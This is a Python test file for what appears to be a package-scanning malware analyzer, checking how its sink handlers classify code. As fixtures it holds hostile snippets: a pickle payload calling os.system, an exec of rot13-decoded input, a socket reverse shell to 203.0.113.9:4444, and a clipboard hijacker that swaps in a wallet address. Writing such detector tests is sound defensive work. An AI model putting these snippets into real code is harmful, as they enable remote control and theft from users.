"""The sink families' name tables, joined by `sinks.dispatch`, and what a call resolves to."""

from __future__ import annotations

from pycustoms.analyzers.code.ast_rules import analyze_python
from pycustoms.analyzers.code.context import ExecContext
from pycustoms.analyzers.code.sinks import decoding, dispatch, execution, files, host, network
from pycustoms.analyzers.code.sinks import process as process_family

FAMILIES = (execution, decoding, network, process_family, files, host)


def test_names_two_families_hold_are_the_ones_the_order_decides() -> None:
    claimed: dict[str, list[str]] = {}
    for family in FAMILIES:
        for name in family.HANDLERS:
            claimed.setdefault(name, []).append(family.__name__.rsplit(".", 1)[-1])
    shared = {name: owners for name, owners in claimed.items() if len(owners) > 1}
    # An unpickler is judged as one before it is a decoder. A new overlap must be
    # decided here, not by accident of the order.
    assert shared == {"pickle.loads": ["execution", "decoding"]}
    assert dispatch.HANDLERS["pickle.loads"] is execution.HANDLERS["pickle.loads"]


def test_every_name_of_every_family_is_dispatched() -> None:
    for family in FAMILIES:
        for name, handler in family.HANDLERS.items():
            assert name in dispatch.HANDLERS
            if name != "pickle.loads":
                assert dispatch.HANDLERS[name] is handler, name


def test_exact_names_and_prefixed_families_do_not_meet() -> None:
    prefixes = [p for group, _ in dispatch.PREFIXED for p in group]
    prefixes += list(decoding.DIGEST_PREFIXES)
    assert not [name for name in dispatch.HANDLERS if name.startswith(tuple(prefixes))]


def _rules(source: str) -> set[str]:
    report = analyze_python("pkg/__init__.py", source, ExecContext.IMPORT)
    assert report is not None
    return {f.rule for f in report.findings}


def test_a_pickle_literal_is_judged_by_the_unpickler_not_the_decoder() -> None:
    pickled = repr(b"cos\nsystem\n(S'id'\ntR.")
    assert "code/exec-decoded-payload" in _rules(f"import pickle\npickle.loads({pickled})\n")


def test_codecs_decode_decodes_only_with_a_decoding_codec() -> None:
    run = "import codecs\nexec(codecs.decode(NAME, {codec!r}))\n"
    assert "code/exec-decoded-payload" in _rules(run.format(codec="rot13"))
    assert "code/exec-decoded-payload" not in _rules(run.format(codec="utf-8"))


def test_socket_create_connection_connects_as_a_network_call() -> None:
    source = (
        "import os, socket\n"
        "s = socket.create_connection(('203.0.113.9', 4444))\n"
        "os.dup2(s.fileno(), 0)\n"
    )
    rules = _rules(source)
    # The raw public address is judged only on the network path, not as a bare socket.
    assert {"code/reverse-shell", "code/suspicious-endpoint"} <= rules


def _severities(source: str) -> dict[str, str]:
    report = analyze_python("pkg/__init__.py", source, ExecContext.IMPORT)
    assert report is not None
    return {f.rule: f.severity.name for f in report.findings}


def test_clipboard_replaced_with_a_fixed_value_is_a_hijacker() -> None:
    wallet = "bc1q" + "x" * 38
    source = f"import pyperclip\nseen = pyperclip.paste()\npyperclip.copy({wallet!r})\n"
    report = analyze_python("pkg/__init__.py", source, ExecContext.IMPORT)
    assert report is not None
    hijack = [f for f in report.findings if "clipboard hijacker" in f.message]
    assert [(f.rule, f.line) for f in hijack] == [("code/surveillance", 3)]
    # Writing the clipboard without reading it first is what copy buttons do.
    quiet = f"import pyperclip\npyperclip.copy({wallet!r})\n"
    assert not _severities(quiet)
